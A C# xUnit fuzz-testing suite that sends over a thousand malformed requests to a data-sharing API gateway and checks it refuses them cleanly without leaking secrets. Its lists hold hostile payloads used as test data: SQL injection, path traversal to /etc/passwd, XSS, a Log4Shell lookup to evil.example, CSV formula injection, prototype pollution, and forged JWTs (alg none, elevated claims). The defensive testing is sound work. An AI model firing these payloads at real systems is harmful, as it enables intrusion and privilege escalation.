using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using DataClauses.Gateway.Demo;
using DataClauses.Gateway.FunctionalTests.Catalog;
using DataClauses.Gateway.FunctionalTests.Infrastructure;
using Xunit.Abstractions;

namespace DataClauses.Gateway.FunctionalTests.Hostile;

/// <summary>
/// Generated hostile input against a real host (issue 12): at least 1,000 requests per run from a seeded grammar of
/// mutations over CSV uploads, JSON bodies, JWTs, path parameters, query strings and headers. Every answer is below
/// 500 and every refusal a problem with a stable type; a refused request changes nothing (catalogue, versions,
/// extracts, clients); at the end the audit chain verifies and no log line holds a secret or a token. The seed is
/// printed; <c>DATACLAUSES_HOSTILE_SEED</c> replays a run.
/// </summary>
public abstract class HostileInputSuite(HostileHostFixture fixture, ITestOutputHelper output)
{
    private const int Cases = 1_100;

    private static readonly string[] HostileStrings =
    [
        "'; DROP TABLE clients; --", "\" OR 1=1 --", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "\r\nFORGED: yes", "\n2026-01-01 INFO forged",
        "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "\u0000", "\u202emanipulated", "\uFEFF", "é", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "caf-foyers-allocataires\u0000", "CAF-FOYERS-ALLOCATAIRES", " caf-foyers-allocataires", "observation ", "", " ", "null", "true", "0",
        "a:b", "a/b", "a\\b", "a%2Fb", "*", "?", "#", "\t", new string('x', 300), new string('y', 5_000),
    ];

    private static readonly string[] EdgeNumbers =
    [
        "0", "-0", "1e308", "-1e308", "1e400", "-1e400", "1e-400", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
        "18446744073709551616", "0.1", "1.7976931348623157e308", "4.9e-324", "123456789012345678901234567890", "1E+2", "-1", "2147483648",
    ];

    private static readonly string[] ContentTypes =
    [
        "application/json; charset=utf-16", "application/json; charset=latin1", "text/plain", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x", "application/json; charset=", "application/jsonx", "application/problem+json", "*/*", "application/json; charset=\"utf-8\"",
    ];

    private System.Data.Common.DbConnection? _connection;

    private GatewayHost Host => fixture.Host;

    [Fact]
    public async Task Generated_hostile_requests_never_fail_the_server_are_refused_with_problems_change_nothing_and_leak_no_secret()
    {
        var seed = int.TryParse(Environment.GetEnvironmentVariable("DATACLAUSES_HOSTILE_SEED"), NumberStyles.Integer, CultureInfo.InvariantCulture, out var replay)
            ? replay
            : Random.Shared.Next();
        output.WriteLine($"Hostile input seed: {seed} (replay with DATACLAUSES_HOSTILE_SEED={seed})");
        var random = new Random(seed);
        var tokens = new Dictionary<string, string>(StringComparer.Ordinal);
        foreach (var (organisation, role) in DemoAccounts.All)
        {
            tokens[DemoAccounts.ClientId(organisation, role)] = await Host.GetDemoTokenAsync(organisation, role);
        }

        var secrets = new List<string>([.. DemoAccounts.All.Select(a => DemoAccounts.Secret(a.Organisation, a.Role)), .. tokens.Values]);
        var generators = new (string Kind, int Weight, Func<Random, Dictionary<string, string>, Task<Case>> Make)[]
        {
            ("json", 40, JsonCaseAsync),
            ("csv", 12, (r, t) => Task.FromResult(CsvCase(r, t))),
            ("jwt", 16, (r, t) => Task.FromResult(JwtCase(r, t))),
            ("path", 14, (r, t) => Task.FromResult(PathCase(r, t))),
            ("query", 10, (r, t) => Task.FromResult(QueryCase(r, t))),
            ("header", 8, (r, t) => Task.FromResult(HeaderCase(r, t))),
        };
        var totalWeight = generators.Sum(g => g.Weight);
        var counts = generators.ToDictionary(g => g.Kind, _ => 0, StringComparer.Ordinal);
        var state = await StateAsync();
        var kestrel = 0;
        for (var i = 0; i < Cases; i++)
        {
            var pick = random.Next(totalWeight);
            var generator = generators.First(g => (pick -= g.Weight) < 0);
            var hostileCase = await generator.Make(random, tokens);
            counts[generator.Kind]++;
            var where = $"seed {seed}, case {i} ({generator.Kind}): {hostileCase.Description}";
            HttpResponseMessage sent;
            try
            {
                sent = await SendAsync(hostileCase);
            }
            catch (HttpRequestException e)
            {
                throw new ShouldAssertException($"{where}: the connection failed ({e.Message})", e);
            }

            using var response = sent;
            var status = (int)response.StatusCode;
            var body = await response.Content.ReadAsStringAsync();
            status.ShouldBeLessThan(500, $"{where} → {status} {body}");
            if (status == 400 && body.Length == 0 && hostileCase.Path.Contains("%00", StringComparison.Ordinal))
            {
                // Kestrel refuses a NUL in the path before the application runs: no problem body can be written there.
                kestrel++;
            }
            else if (status >= 400)
            {
                ShouldBeProblem(response, status, body, hostileCase, where);
                if (hostileCase.Method != HttpMethod.Get)
                {
                    (await StateAsync()).ShouldBe(state, $"{where}: a refused request changed the state");
                }
            }
            else if (hostileCase.Method != HttpMethod.Get)
            {
                // Some mutations leave a valid request (a CSV still well formed, a client still valid): it may change the state.
                secrets.AddRange(SecretsIn(body));
                state = await StateAsync();
            }
        }

        output.WriteLine("Cases per kind: " + string.Join(", ", counts.Select(c => $"{c.Key} {c.Value}")) + $"; refused by Kestrel before the application: {kestrel}");
        using var dpo = Host.WithToken(tokens["caf-44-dpo"]);
        using var verify = await dpo.GetAsync("api/v1/audit/verify");
        var verification = await GatewayHost.JsonOf(verify);
        verify.StatusCode.ShouldBe(HttpStatusCode.OK, verification.ToString());
        verification.GetProperty("intact").GetBoolean().ShouldBeTrue($"seed {seed}: {verification}");
        (await Host.VerifyAuditChainAsync()).Intact.ShouldBeTrue($"seed {seed}");
        await _connection!.DisposeAsync();

        var lines = fixture.Logs.Lines;
        lines.ShouldNotBeEmpty();
        foreach (var secret in secrets.Where(s => s.Length >= 16))
        {
            lines.ShouldNotContain(l => l.Contains(secret, StringComparison.Ordinal), $"seed {seed}: a secret or token reached the log");
        }
    }

    /// <summary>A request of the generated corpus.</summary>
    internal sealed record Case(string Description, HttpMethod Method, string Path, string? Token, byte[]? Body = null, string? ContentType = "application/json", IReadOnlyList<(string Name, string Value)>? Headers = null, bool OAuth = false);

    private static void ShouldBeProblem(HttpResponseMessage response, int status, string body, Case hostileCase, string where)
    {
        var mediaType = response.Content.Headers.ContentType?.MediaType;
        mediaType.ShouldBe(hostileCase.OAuth ? "application/json" : "application/problem+json", $"{where} → {status} {body}");
        using var document = JsonDocument.Parse(body);
        var problem = document.RootElement;
        var type = problem.GetProperty("type").GetString()!;
        type.ShouldStartWith(ProblemAssertions.TypeBase, Shouldly.Case.Sensitive, where);
        type.EndsWith("/server-error", StringComparison.Ordinal).ShouldBeFalse(where);
        problem.GetProperty("status").GetInt32().ShouldBe(status, where);
        problem.GetProperty("title").GetString().ShouldNotBeNullOrWhiteSpace(where);
        problem.GetProperty("correlationId").GetString().ShouldNotBeNullOrWhiteSpace(where);
    }

    private async Task<HttpResponseMessage> SendAsync(Case hostileCase)
    {
        using var request = new HttpRequestMessage(hostileCase.Method, hostileCase.Path);
        if (hostileCase.Token is not null)
        {
            request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + hostileCase.Token);
        }

        if (hostileCase.Body is not null)
        {
            request.Content = new ByteArrayContent(hostileCase.Body);
            if (hostileCase.ContentType is not null)
            {
                request.Content.Headers.TryAddWithoutValidation("Content-Type", hostileCase.ContentType);
            }
        }

        foreach (var (name, value) in hostileCase.Headers ?? [])
        {
            if (!request.Headers.TryAddWithoutValidation(name, value))
            {
                request.Content ??= new ByteArrayContent([]);
                request.Content.Headers.TryAddWithoutValidation(name, value);
            }
        }

        return await Host.Http.SendAsync(request);
    }

    /// <summary>What a refused request must leave untouched: datasets, versions, extracts and clients (every column that matters).</summary>
    private async Task<string> StateAsync()
    {
        // One connection for the whole run: opening one per read made the PostgreSQL run several times slower.
        _connection ??= await Host.Database.OpenAsync();
        var parts = new List<string>();
        foreach (var sql in new[]
        {
            "SELECT dataset_id || '|' || schema_json FROM datasets ORDER BY 1",
            "SELECT dataset_id || '|' || version || '|' || table_name FROM dataset_versions ORDER BY 1",
            "SELECT id || '|' || status FROM extracts ORDER BY 1",
            "SELECT client_id || '|' || roles || '|' || secret_rotated_at || '|' || CASE WHEN disabled THEN 'd' ELSE 'e' END FROM clients ORDER BY 1",
            "SELECT \"ClientId\" || '|' || COALESCE(\"ClientSecret\", '') || '|' || COALESCE(\"JsonWebKeySet\", '') FROM \"OpenIddictApplications\" ORDER BY 1",
        })
        {
            await using var command = _connection.CreateCommand();
            command.CommandText = sql;
            await using var reader = await command.ExecuteReaderAsync();
            while (await reader.ReadAsync())
            {
                parts.Add(reader.GetString(0));
            }

            parts.Add("--");
        }

        return string.Join('\n', parts);
    }

    private static IEnumerable<string> SecretsIn(string body)
    {
        if (body.Length == 0 || body[0] != '{')
        {
            yield break;
        }

        using var document = JsonDocument.Parse(body);
        if (document.RootElement.TryGetProperty("clientSecret", out var secret) && secret.GetString() is { } value)
        {
            yield return value;
        }
    }

    // ---- JSON bodies -------------------------------------------------------------------------------------------

    private static readonly (string Client, string Method, string Path, string Body)[] JsonTargets =
    [
        ("epci-demo-analyst", "POST", "api/v1/queries", """{"dataset":"caf-foyers-allocataires","purpose":"observation","dimensions":["qpv"],"measures":["foyers"],"filters":{"qpv":["QN04401M"]}}"""),
        ("epci-demo-analyst", "POST", "api/v1/policy/decisions", """{"dataset":"caf-foyers-allocataires","purpose":"observation","action":"query","dimensions":["qpv"],"measures":["foyers"]}"""),
        ("epci-demo-analyst", "POST", "api/v1/indicators", """{"numerator":{"dataset":"caf-foyers-allocataires","measure":"foyers","purpose":"observation"},"denominator":{"dataset":"caf-foyers-allocataires","measure":"foyers","purpose":"observation"},"geography":"qpv","per":100}"""),
        ("epci-demo-analyst", "POST", "api/v1/extracts", """{"tables":[{"dataset":"caf-foyers-allocataires","dimensions":["qpv"],"measures":["foyers"]}],"purpose":"observation","justification":"Diagnostic annuel des quartiers.","retention":"P1M"}"""),
        ("caf-44-admin", "POST", "api/v1/admin/clients", """{"clientId":"caf-44-generated","roles":["analyst"],"description":"generated","person":"x@caf-44"}"""),
        ("caf-44-publisher", "PUT", "api/v1/datasets/caf-foyers-allocataires", """{"title":"Foyers","fields":[{"name":"id_foyer","type":"string","role":"unit-id"}]}"""),
        ("caf-44-steward", "POST", "api/v1/extracts/0123456789abcdef0123456789abcdef/reject", """{"comment":"Refusé pour le test."}"""),
        ("caf-44-dpo", "POST", "api/v1/audit/checkpoints", """{}"""),
    ];

    private static Task<Case> JsonCaseAsync(Random random, Dictionary<string, string> tokens)
    {
        var (client, method, path, body) = JsonTargets[random.Next(JsonTargets.Length)];
        var text = body;
        var contentType = "application/json";
        var steps = new List<string>();
        byte[]? bytes = null;
        for (var m = random.Next(1, 4); m > 0; m--)
        {
            switch (random.Next(11))
            {
                case 0: // a string value replaced by a hostile one
                    text = ReplaceAStringValue(random, text, JsonSerializer.Serialize(HostileStrings[random.Next(HostileStrings.Length)]), steps);
                    break;
                case 1: // a lone surrogate or an invalid UTF-8 byte in a string
                    text = ReplaceAStringValue(random, text, random.Next(2) == 0 ? "\"a\\ud800b\"" : "\"a¤b\"", steps);
                    break;
                case 2: // a number at the edge where a value was
                    text = ReplaceAStringValue(random, text, EdgeNumbers[random.Next(EdgeNumbers.Length)], steps);
                    break;
                case 3: // a member repeated
                    var colon = text.IndexOf("\":", StringComparison.Ordinal);
                    var start = colon > 0 ? text.LastIndexOf('"', colon - 1) : -1;
                    if (start >= 0 && text.Length > 1)
                    {
                        var name = text[start..(colon + 1)];
                        text = text.Insert(text.Length - 1, "," + name + ":\"again\"");
                        steps.Add("repeat " + name);
                    }

                    break;
                case 4: // deep nesting
                    var depth = random.Next(10, 200);
                    text = ReplaceAStringValue(random, text, new string('[', depth) + "1" + new string(']', depth), steps);
                    break;
                case 5: // truncated
                    text = text[..random.Next(0, text.Length)];
                    steps.Add("truncated");
                    break;
                case 6: // the wrong JSON type
                    text = ReplaceAStringValue(random, text, new[] { "null", "true", "{}", "[]", "[[]]", "{\"a\":1}", "-1" }[random.Next(7)], steps);
                    break;
                case 7: // a content-type trick
                    contentType = ContentTypes[random.Next(ContentTypes.Length)];
                    steps.Add("content-type " + contentType);
                    break;
                case 8: // huge, but the whole body under the 1 MiB limit even after another huge mutation (beyond it Kestrel
                        // answers 413 and closes the connection while the client still sends: a broken pipe, not an answer)
                    var room = Math.Max(20_000, 1_000_000 - text.Length);
                    text = ReplaceAStringValue(random, text, random.Next(2) == 0 ? "\"" + new string('z', random.Next(10_000, Math.Min(900_000, room - 10))) + "\"" : "[" + string.Join(',', Enumerable.Repeat("1", random.Next(1_000, Math.Min(400_000, room / 2 - 10)))) + "]", steps);
                    break;
                case 9: // not JSON at all, or trailing garbage
                    text = random.Next(2) == 0 ? text + "}garbage" : "\uFEFF\uFEFF" + text;
                    steps.Add("garbage");
                    break;
                default: // an unknown member
                    text = text.Length == 0 ? "{}" : text.Insert(1, "\"__proto__\":{\"admin\":true},");
                    steps.Add("unknown member");
                    break;
            }
        }

        bytes ??= HostileRequests.Bytes(text);
        return Task.FromResult(new Case($"{method} {path} [{string.Join("; ", steps)}] {Preview(text)}", new HttpMethod(method), path, tokens[client], bytes, contentType));
    }

    private static string ReplaceAStringValue(Random random, string text, string replacement, List<string> steps)
    {
        // The values of members (strings, numbers, arrays): the text after a random ':' up to the next ',' '}' or ']'.
        var colons = Enumerable.Range(0, text.Length).Where(i => text[i] == ':' && i > 0 && text[i - 1] == '"').ToList();
        if (colons.Count == 0)
        {
            return text;
        }

        var at = colons[random.Next(colons.Count)] + 1;
        var end = at;
        var depth = 0;
        var inString = false;
        for (; end < text.Length; end++)
        {
            var c = text[end];
            if (inString)
            {
                if (c == '\\')
                {
                    end++;
                }
                else if (c == '"')
                {
                    inString = false;
                }
            }
            else if (c == '"')
            {
                inString = true;
            }
            else if (c is '[' or '{')
            {
                depth++;
            }
            else if (c is ']' or '}')
            {
                if (depth == 0)
                {
                    break;
                }

                depth--;
            }
            else if (c == ',' && depth == 0)
            {
                break;
            }
        }

        steps.Add($"value at {at} := {Preview(replacement)}");
        return text[..at] + replacement + text[end..];
    }

    // ---- CSV uploads -------------------------------------------------------------------------------------------

    private static readonly string[] CsvValues =
    [
        "1e308", "-1e308", "1e17", "NaN", "Infinity", "-0", "1,5", "0x10", "1_000", "1 000", "12.5\0", "\0", "=cmd|' /C calc'!A0", "+1", "1e-400",
        "90071992547410", "\"unterminated", "a\"b", "\u00a0", "100\r", "QN04401M\u0000", "../x",
    ];

    private static Case CsvCase(Random random, Dictionary<string, string> tokens)
    {
        var lines = Publishing.ValidCsv(Publishing.Caf, random.Next(1, 6), random.Next(10_000)).Split('\n').Where(l => l.Length > 0).ToList();
        var steps = new List<string>();
        var contentType = "text/csv";
        for (var m = random.Next(1, 3); m > 0; m--)
        {
            var line = random.Next(1, lines.Count);
            var cells = lines[line].Split(';');
            switch (random.Next(8))
            {
                case 0:
                case 1:
                    var column = random.Next(cells.Length);
                    cells[column] = CsvValues[random.Next(CsvValues.Length)];
                    lines[line] = string.Join(';', cells);
                    steps.Add($"line {line + 1} col {column + 1} := {Preview(cells[column])}");
                    break;
                case 2:
                    lines[line] += ";extra";
                    steps.Add("extra column");
                    break;
                case 3:
                    lines[0] = random.Next(2) == 0 ? lines[0] + ";montant_mensuel" : lines[0].Replace("qpv", "QPV", StringComparison.Ordinal);
                    steps.Add("header");
                    break;
                case 4:
                    lines.Insert(random.Next(lines.Count), new string('x', random.Next(1, 70_000)));
                    steps.Add("long line");
                    break;
                case 5:
                    contentType = new[] { "text/csv; charset=utf-16", "application/json", "text/plain", "text/csv; charset=windows-1252", "text/csv; header=absent" }[random.Next(5)];
                    steps.Add("content-type " + contentType);
                    break;
                case 6:
                    lines[line] = lines[line][..random.Next(lines[line].Length)];
                    steps.Add("truncated line");
                    break;
                default:
                    lines[line] = lines[line].Replace(';', random.Next(2) == 0 ? ',' : '\t');
                    steps.Add("separator");
                    break;
            }
        }

        var version = random.Next(5) == 0
            ? Uri.EscapeDataString(ShortHostile(random))
            : "g" + random.Next(1_000_000_000).ToString(CultureInfo.InvariantCulture);
        var text = string.Join(random.Next(3) == 0 ? "\r\n" : "\n", lines) + "\n";
        var bytes = random.Next(10) == 0 ? Encoding.Unicode.GetBytes(text) : HostileRequests.Bytes(random.Next(10) == 0 ? text.Replace("foyer", "foy¤r", StringComparison.Ordinal) : text);
        return new Case($"PUT csv version {Preview(version)} [{string.Join("; ", steps)}]", HttpMethod.Put, $"api/v1/datasets/{Publishing.Caf}/versions/{(version.Length == 0 ? "v" : version)}", tokens["caf-44-publisher"], bytes, contentType);
    }

    // ---- JWTs --------------------------------------------------------------------------------------------------

    private static Case JwtCase(Random random, Dictionary<string, string> tokens)
    {
        var token = tokens["epci-demo-analyst"];
        var parts = token.Split('.');
        string mutated;
        string step;
        switch (random.Next(9))
        {
            case 0:
                var segment = random.Next(3);
                var chars = parts[segment].ToCharArray();
                var at = random.Next(1, chars.Length - 2);
                chars[at] = chars[at] == 'A' ? 'B' : 'A';
                parts[segment] = new string(chars);
                mutated = string.Join('.', parts);
                step = $"flip segment {segment} at {at}";
                break;
            case 1:
                mutated = HostileRequests.Malleate(token);
                step = "high-s";
                break;
            case 2:
                mutated = B64("{\"alg\":\"none\",\"typ\":\"at+jwt\"}") + "." + parts[1] + ".";
                step = "alg none";
                break;
            case 3:
                mutated = B64("{\"alg\":\"HS256\",\"typ\":\"at+jwt\"}") + "." + parts[1] + "." + parts[2];
                step = "alg HS256";
                break;
            case 4:
                var payload = Encoding.UTF8.GetString(Microsoft.IdentityModel.Tokens.Base64UrlEncoder.DecodeBytes(parts[1]));
                payload = payload.Replace("\"epci-demo\"", "\"caf-44\"", StringComparison.Ordinal).Replace("analyst", "admin", StringComparison.Ordinal);
                mutated = parts[0] + "." + B64(payload) + "." + parts[2];
                step = "claims changed";
                break;
            case 5:
                mutated = parts[0] + "." + parts[1];
                step = "no signature";
                break;
            case 6:
                mutated = token + "." + parts[2];
                step = "four segments";
                break;
            case 7:
                mutated = new string('a', random.Next(1, 20_000));
                step = "garbage";
                break;
            default:
                mutated = token[..random.Next(token.Length - 1)];
                step = "truncated";
                break;
        }

        var path = new[] { "api/v1/catalog", "api/v1/extracts", "api/v1/admin/clients", "api/v1/audit/events" }[random.Next(4)];
        return new Case($"GET {path} with token [{step}]", HttpMethod.Get, path, mutated);
    }

    private static string B64(string json) => Microsoft.IdentityModel.Tokens.Base64UrlEncoder.Encode(Encoding.UTF8.GetBytes(json));

    // ---- Path parameters ---------------------------------------------------------------------------------------

    private static readonly string[] PathTemplates =
    [
        "GET api/v1/datasets/{0}", "GET api/v1/datasets/{0}/versions", "GET api/v1/datasets/caf-foyers-allocataires/versions/{0}",
        "PUT api/v1/datasets/{0}", "GET api/v1/extracts/{0}", "GET api/v1/extracts/{0}/file?format=csv", "POST api/v1/extracts/{0}/approve",
        "POST api/v1/extracts/{0}/attest-deletion", "POST api/v1/admin/clients/{0}/disable", "POST api/v1/admin/clients/{0}/secret",
        "POST api/v1/admin/clients/{0}/confirm", "DELETE api/v1/datasets/{0}",
    ];

    private static readonly string[] PathValues =
    [
        "%0d%0aFORGED", "%00", "..%2f..%2fetc", "%2e%2e", "caf-44-admin", "epci-demo-admin", "caf-foyers-allocataires", "%ff%fe", "%c0%af",
        "a%20b", "%27%20OR%201%3D1", "%E2%80%AE", "0123456789abcdef0123456789abcdef", "%25", "x".PadRight(250, 'x'), "%F0%9D%94%98", "-", ".", "a..b",
    ];

    private static Case PathCase(Random random, Dictionary<string, string> tokens)
    {
        var template = PathTemplates[random.Next(PathTemplates.Length)];
        var space = template.IndexOf(' ', StringComparison.Ordinal);
        var value = random.Next(4) == 0 ? Uri.EscapeDataString(ShortHostile(random)) : PathValues[random.Next(PathValues.Length)];
        var path = string.Format(CultureInfo.InvariantCulture, template[(space + 1)..], value);
        var client = tokens.Keys.ElementAt(random.Next(tokens.Count));
        var method = new HttpMethod(template[..space]);
        return new Case($"{method} {path} as {client}", method, path, tokens[client], method == HttpMethod.Get ? null : Encoding.UTF8.GetBytes("{}"));
    }

    // ---- Query strings -----------------------------------------------------------------------------------------

    private static readonly string[] QueryTemplates =
    [
        "api/v1/extracts?mine={0}", "api/v1/extracts?status={0}", "api/v1/extracts?mine=false&status={0}&status=ready", "api/v1/audit/events?from={0}",
        "api/v1/audit/events?limit={0}", "api/v1/audit/events?action={0}&dataset={0}", "api/v1/audit/export?format={0}", "api/v1/audit/report?from={0}&to={0}",
        "api/v1/audit/verify?from={0}", "api/v1/catalog?x={0}", "api/v1/extracts/0123456789abcdef0123456789abcdef/file?format={0}&table={0}",
    ];

    private static Case QueryCase(Random random, Dictionary<string, string> tokens)
    {
        var value = random.Next(2) == 0 ? Uri.EscapeDataString(ShortHostile(random)) : Uri.EscapeDataString(EdgeNumbers[random.Next(EdgeNumbers.Length)]);
        var path = string.Format(CultureInfo.InvariantCulture, QueryTemplates[random.Next(QueryTemplates.Length)], value);
        var client = new[] { "caf-44-dpo", "epci-demo-analyst", "caf-44-admin", "caf-44-steward" }[random.Next(4)];
        return new Case($"GET {path} as {client}", HttpMethod.Get, path, tokens[client]);
    }

    // ---- Headers -----------------------------------------------------------------------------------------------

    private static Case HeaderCase(Random random, Dictionary<string, string> tokens)
    {
        var (name, value) = random.Next(7) switch
        {
            // HttpClient sends only ASCII without line breaks in headers: what a client library lets through.
            0 => ("X-Correlation-Id", new string([.. HostileStrings[random.Next(HostileStrings.Length)].Select(c => c is >= ' ' and <= '~' ? c : '?')])),
            1 => ("Accept", new[] { "text/csv;q=abc", "*/*;q=2", "application/xml", "text/csv, application/json;q=0", ";;;", "application/json;q=0" }[random.Next(6)]),
            2 => ("X-Forwarded-For", new[] { "203.0.113.1", "garbage", "1.1.1.1, 2.2.2.2", "::1", "999.1.1.1" }[random.Next(5)]),
            3 => ("Authorization", new[] { "Basic Zm9vOmJhcg==", "Bearer", "Bearer  " + tokens["epci-demo-analyst"], "bearer " + tokens["epci-demo-analyst"] + " extra", "Negotiate abc" }[random.Next(5)]),
            4 => ("X-Forwarded-Proto", "gopher"),
            5 => ("Range", "bytes=0-1,2-3,-1"),
            _ => ("Content-Type", ContentTypes[random.Next(ContentTypes.Length)]),
        };
        var path = new[] { "api/v1/catalog", "api/v1/extracts", "api/v1/catalog.jsonld", ".well-known/openid-configuration" }[random.Next(4)];
        var withToken = name != "Authorization";
        return new Case($"GET {path} with {name}: {Preview(value)}", HttpMethod.Get, path, withToken ? tokens["caf-44-dpo"] : null, null, null, [(name, value)]);
    }

    /// <summary>A hostile string short enough for a request line (Kestrel refuses lines over 8 KB before the application runs).</summary>
    private static string ShortHostile(Random random)
    {
        var text = HostileStrings[random.Next(HostileStrings.Length)];
        return text.Length > 300 ? text[..300] : text;
    }

    private static string Preview(string text) => text.Length > 120 ? text[..120] + $"…({text.Length} chars)" : text;
}

public sealed class HostileInputSuite_on_Sqlite(SqliteHostileHost fixture, ITestOutputHelper output) : HostileInputSuite(fixture, output), IClassFixture<SqliteHostileHost>;

public sealed class HostileInputSuite_on_PostgreSql(PostgreSqlHostileHost fixture, ITestOutputHelper output) : HostileInputSuite(fixture, output), IClassFixture<PostgreSqlHostileHost>;
